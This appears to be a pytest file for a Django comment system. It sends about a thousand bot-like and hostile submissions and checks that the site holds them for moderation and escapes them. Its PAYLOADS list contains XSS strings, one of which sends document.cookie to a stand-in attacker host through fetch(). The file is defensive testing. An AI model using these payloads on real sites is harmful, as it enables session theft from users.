"""A thousand hostile submissions of every kind the issue names, through the whole stack."""

from collections import Counter

import pytest

from masthead.comments.models import Comment
from masthead.comments.policy import get_policy
from masthead.comments.testing import comment_form_data

pytestmark = pytest.mark.django_db

PER_KIND = 120
PAYLOADS = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    '"><svg onload=alert(1)>',
    '<a href="javascript:alert(1)">prize</a>',
    "<iframe src=//evil.example></iframe>",
    "</textarea><script>alert(2)</script>",
]


def address(n: int) -> str:
    """A different /24 for every bot, so only the flood meets the rate limits."""
    return f"10.{(n >> 8) & 255}.{n & 255}.9"


def send(client, data, n):
    return client.post(
        "/comments/post/", data, REMOTE_ADDR=address(n), HTTP_SEC_FETCH_SITE="same-origin"
    )


def strip(data, *names):
    return {key: value for key, value in data.items() if key not in names}


def test_a_thousand_bots_publish_nothing(client, story, settings):
    settings.MASTHEAD_HUMANCHECK_ADDRESS_LIMIT = 10
    # Limits count in fixed windows: a day-long one keeps the flood inside a single window.
    settings.MASTHEAD_HUMANCHECK_WINDOW = 86_400
    burst = get_policy().flood_posts
    outcomes: dict[str, Counter] = {}
    counter = iter(range(1, 10_000))

    def attack(kind, data, n=None):
        response = send(client, {**data, "name": kind}, n if n is not None else next(counter))
        outcomes.setdefault(kind, Counter())[response.status_code] += 1

    def body(kind, i):
        return f"{kind} message number {i} with some words"

    replayed = comment_form_data(story, body="The original, sent once by its reader")
    assert send(client, replayed, 0).status_code == 303
    for i in range(PER_KIND):
        fresh = comment_form_data(story, body=body("x", i))
        attack("no-token", strip(fresh, "hc_token", "hc_answer", "altcha"))
        attack("wrong-answer", comment_form_data(story, answer=str(20 + i % 50), proof=False))
        attack("expired", comment_form_data(story, shown_seconds_ago=1801 + i))
        attack("replayed", {**replayed, "body": body("replayed", i)})
        attack("honeypot", comment_form_data(story, body=body("trap", i), honeypot="http://x.io"))
        attack("too-fast", comment_form_data(story, body=body("fast", i), shown_seconds_ago=0))
        attack("no-proof-of-work", comment_form_data(story, body=body("nopow", i), proof=False))
        attack("markup", comment_form_data(story, body=f"{PAYLOADS[i % 6]} {i}"))
    flood = [comment_form_data(story, body=body("flood", i)) for i in range(PER_KIND)]
    for data in flood:
        attack("flood", data, n=99_999)

    sent = sum(sum(counts.values()) for counts in outcomes.values())
    assert sent == 9 * PER_KIND >= 1000
    stored = Counter(Comment.objects.values_list("name", "status"))

    assert not Comment.objects.published().exists()
    for kind in ("no-token", "wrong-answer", "expired", "replayed"):
        assert outcomes[kind] == Counter({400: PER_KIND}), kind
        assert not any(name == kind for name, _ in stored), kind
    # The flood: its first few look like one keen reader's and are taken; the next shows
    # the burst, which is then rejected with it, and every post after that is refused.
    assert outcomes["flood"] == Counter({303: burst, 429: PER_KIND - burst})
    assert stored[("flood", "rejected")] == burst
    assert not any(name == "flood" and status != "rejected" for name, status in stored)
    # The rest are taken, told they await moderation, and held.
    for kind in ("honeypot", "too-fast"):
        assert outcomes[kind] == Counter({303: PER_KIND}), kind
        assert stored[(kind, "spam")] == PER_KIND, kind
    assert outcomes["no-proof-of-work"] == Counter({303: PER_KIND})
    assert stored[("no-proof-of-work", "pending")] == PER_KIND
    assert outcomes["markup"] == Counter({303: PER_KIND})
    assert stored[("markup", "pending")] + stored[("markup", "spam")] == PER_KIND


def test_markup_payloads_are_held_even_where_low_scores_are_published(client, story, settings):
    settings.MASTHEAD_COMMENTS_PUBLISH_BELOW = 20
    for i, payload in enumerate(PAYLOADS):
        assert send(client, comment_form_data(story, body=payload), i).status_code == 303
    assert Comment.objects.count() == len(PAYLOADS)
    assert not Comment.objects.published().exists()


def test_approved_payloads_render_as_text(client, story):
    for i, payload in enumerate(PAYLOADS):
        send(client, comment_form_data(story, body=payload, name=payload[:60]), i)
    Comment.objects.update(status=Comment.Status.PUBLISHED)
    html = client.get(story.url).content.decode()
    for dangerous in ("<script>alert", "<img src=x", "<svg onload", 'href="javascript', "<iframe"):
        assert dangerous not in html
